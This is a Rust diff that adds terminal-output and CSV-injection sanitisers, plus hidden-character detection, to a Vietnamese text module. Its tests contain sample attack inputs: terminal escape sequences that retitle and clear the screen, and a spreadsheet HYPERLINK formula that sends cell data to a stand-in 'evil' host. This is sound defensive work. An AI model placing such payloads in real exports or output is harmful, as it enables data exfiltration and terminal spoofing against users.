@@ -1,5 +1,11 @@
-//! Vietnamese text at the boundary: NFC normalisation of every input, and the diacritic fold
-//! used by search ("Nguyễn Đức" → "nguyen duc"). Pure.
+//! Vietnamese text at the boundary: NFC normalisation of every input, the diacritic fold used
+//! by search ("Nguyễn Đức" → "nguyen duc"), and the one sanitiser for text that leaves the
+//! program: what reaches a terminal ([`printable`], [`printable_lines`]) or a spreadsheet
+//! ([`csv_cell`]). Input is refused when it holds control or hidden characters
+//! ([`forbidden_char`], used by every field check); output replaces them anyway, as a second
+//! line for data stored before the checks or brought in by other means. Pure.
+
+use std::borrow::Cow;
 
 use unicode_normalization::UnicodeNormalization;
 use unicode_normalization::char::is_combining_mark;
@@ -34,6 +40,125 @@ pub fn tokens(s: &str) -> Vec<String> {
         .collect()
 }
 
+/// Digits typed in another form (full-width `０１２`, mathematical `𝟎`, circled `①`…) as
+/// ASCII digits, by compatibility normalisation (NFKC); digits of other scripts stay as they
+/// are, for the caller to refuse.
+pub fn compatibility_digits(s: &str) -> String {
+    s.nfkc().collect()
+}
+
+/// Characters that change how text is displayed without being seen: bidirectional embeddings,
+/// overrides, isolates and marks, zero-width characters and the byte-order mark.
+pub fn is_hidden(c: char) -> bool {
+    matches!(
+        c,
+        '\u{061C}'
+            | '\u{200B}'..='\u{200F}'
+            | '\u{202A}'..='\u{202E}'
+            | '\u{2060}'..='\u{2069}'
+            | '\u{FEFF}'
+    )
+}
+
+/// The first character input may not hold: a control character (C0, DEL, C1: the escape
+/// sequences that recolour, retitle or clear a terminal start with one) or a hidden one; a line
+/// break (`\n`, `\r`) is allowed when `multiline`.
+pub fn forbidden_char(s: &str, multiline: bool) -> Option<char> {
+    s.chars()
+        .find(|&c| is_hidden(c) || (c.is_control() && !(multiline && matches!(c, '\n' | '\r'))))
+}
+
+/// What a forbidden character is shown as: its Control Pictures symbol for C0 and DEL (`␛` for
+/// ESC, `␇` for BEL, `␊` for a line break), `�` for the others.
+fn shown(c: char) -> char {
+    match c {
+        '\u{0}'..='\u{1f}' => char::from_u32(0x2400 + c as u32).unwrap_or('\u{FFFD}'),
+        '\u{7f}' => '\u{2421}',
+        _ => '\u{FFFD}',
+    }
+}
+
+/// One line of stored text made safe for a terminal or a text file: every control character
+/// (line breaks and tabs included) and every hidden character is replaced by a visible symbol,
+/// so nothing stored can move the cursor, recolour, retitle or clear the reader's terminal,
+/// reorder what it shows, or start a line of its own.
+pub fn printable(s: &str) -> Cow<'_, str> {
+    if forbidden_char(s, false).is_none() {
+        return Cow::Borrowed(s);
+    }
+    Cow::Owned(
+        s.chars()
+            .map(|c| {
+                if is_hidden(c) || c.is_control() {
+                    shown(c)
+                } else {
+                    c
+                }
+            })
+            .collect(),
+    )
+}
+
+/// Multi-line stored text (a reason, a note) for a terminal: each line made [`printable`],
+/// every line after the first starting with `indent`, so a line of the text can never pass for
+/// a line of the output around it (a forged timeline entry).
+pub fn printable_lines(s: &str, indent: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for (i, line) in s.split(['\n', '\r']).enumerate() {
+        if i > 0 {
+            out.push('\n');
+            out.push_str(indent);
+        }
+        out.push_str(&printable(line));
+    }
+    out
+}
+
+/// Text the program writes to a terminal as a whole (a message, a report line): control
+/// characters other than the line break and the tab become visible symbols, as do hidden ones.
+/// The second line of defence behind the field-by-field [`printable`] of stored data.
+pub fn terminal_safe(s: &str) -> Cow<'_, str> {
+    let bad = |c: char| is_hidden(c) || (c.is_control() && c != '\n' && c != '\t');
+    if !s.chars().any(bad) {
+        return Cow::Borrowed(s);
+    }
+    Cow::Owned(
+        s.chars()
+            .map(|c| if bad(c) { shown(c) } else { c })
+            .collect(),
+    )
+}
+
+/// True when a spreadsheet could take the cell for a formula (it starts with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return), or it is such a cell already guarded by `'`s.
+fn csv_guarded(s: &str) -> bool {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
+        Some('\'') => csv_guarded(&s[1..]),
+        _ => false,
+    }
+}
+
+/// A CSV cell that a spreadsheet will not run as a formula (OWASP's rule for CSV injection):
+/// a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
+/// (and so does one that already starts with `'` before such a character, so that
+/// [`csv_cell_read`] gives back exactly the original).
+pub fn csv_cell(s: &str) -> Cow<'_, str> {
+    if csv_guarded(s) {
+        Cow::Owned(format!("'{s}"))
+    } else {
+        Cow::Borrowed(s)
+    }
+}
+
+/// The inverse of [`csv_cell`], for a CSV the program reads back (the catalogue).
+pub fn csv_cell_read(s: &str) -> &str {
+    match s.strip_prefix('\'') {
+        Some(rest) if csv_guarded(rest) => rest,
+        _ => s,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -60,5 +185,45 @@ mod tests {
             tokens("Lê Thị-Hồng, 0912"),
             vec!["le", "thi", "hong", "0912"]
         );
+    }
+
+    #[test]
+    fn printable_replaces_every_escape() {
+        assert_eq!(printable("Lê Thị Hoa"), "Lê Thị Hoa");
+        assert_eq!(printable("\u{1b}[31mX\u{1b}[0m\u{7}"), "␛[31mX␛[0m␇");
+        assert_eq!(printable("\u{1b}]0;PWNED\u{7}\u{1b}[2J"), "␛]0;PWNED␇␛[2J");
+        assert_eq!(printable("a\nb\tc\u{9b}d\u{202e}e\u{7f}"), "a␊b␉c�d�e␡");
+        assert!(forbidden_char(&printable("\u{1b}\u{0}\u{85}\u{200b}"), false).is_none());
+    }
+
+    #[test]
+    fn multiline_text_is_indented() {
+        assert_eq!(
+            printable_lines("lý do\n  2. 10:00 — giả\r\u{1b}x", "     "),
+            "lý do\n       2. 10:00 — giả\n     ␛x"
+        );
+        assert_eq!(terminal_safe("a\tb\nc\u{1b}"), "a\tb\nc␛");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        for (raw, cell) in [
+            (
+                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+                "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+            ),
+            ("+1", "'+1"),
+            ("-1+2", "'-1+2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("Lê", "Lê"),
+            ("'=a", "''=a"),
+            ("'x", "'x"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(raw), cell);
+            assert_eq!(csv_cell_read(&csv_cell(raw)), raw);
+        }
     }
 }
